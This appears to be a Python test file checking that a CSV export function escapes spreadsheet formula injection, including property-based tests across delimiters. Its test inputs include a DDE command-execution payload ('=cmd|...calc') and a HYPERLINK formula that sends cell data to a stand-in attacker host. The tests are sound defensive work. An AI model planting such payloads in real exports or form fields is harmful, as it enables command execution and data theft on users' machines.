"""No cell of an export runs in a spreadsheet, whatever somebody typed."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hub.core.spreadsheets import CsvSheet, safe_cell

STARTS = "=+-@\t\r\n＝＋－＠−"


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "+44 1632 960001",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("https://evil.example/?"&A1,"press")',
    ],
)
def test_what_looks_like_a_formula_is_made_text(typed: str) -> None:
    assert str(safe_cell(typed)).startswith("'")
    assert str(safe_cell(typed)).replace("'", "") == typed.replace("'", "")


@pytest.mark.parametrize("typed", ["Leeds City Council", "ntc_01", "2026-11-18", "O'Example", '{"a": -1}', "a=b", ""])
def test_what_does_not_is_left_as_it_is(typed: str) -> None:
    assert safe_cell(typed) == typed


def test_numbers_instants_and_days_keep_their_meaning() -> None:
    assert [safe_cell(value) for value in (-5, 2.5, True, None)] == [-5, 2.5, "yes", ""]
    assert safe_cell(datetime(2026, 11, 18, 10, 0, tzinfo=UTC)) == "2026-11-18T10:00:00Z"
    assert safe_cell(date(2026, 11, 18)) == "2026-11-18"


def written(*rows: list[Any]) -> str:
    file = io.StringIO(newline="")
    sheet = CsvSheet(file, ["one", "two"])
    for row in rows:
        sheet.add(row)
    return file.getvalue()


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=2, max_size=2), max_size=5))
@example([["=1", '"\r\n=1'], ["a;=1", "a\t@b"], ['","=1', "\0=1"]])
def test_no_cell_begins_a_formula_however_the_file_is_divided(rows: list[list[str]]) -> None:
    text = written(*rows)
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell.strip(' "\u00a0')[:1] in tuple(STARTS[:4])]


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\0;\t\r\n")))
def test_what_was_typed_can_be_read_back(typed: str) -> None:
    (_, row) = csv.reader(io.StringIO(written([typed, ""]), newline=""))
    assert row[0].removeprefix("'") == typed.removeprefix("'")
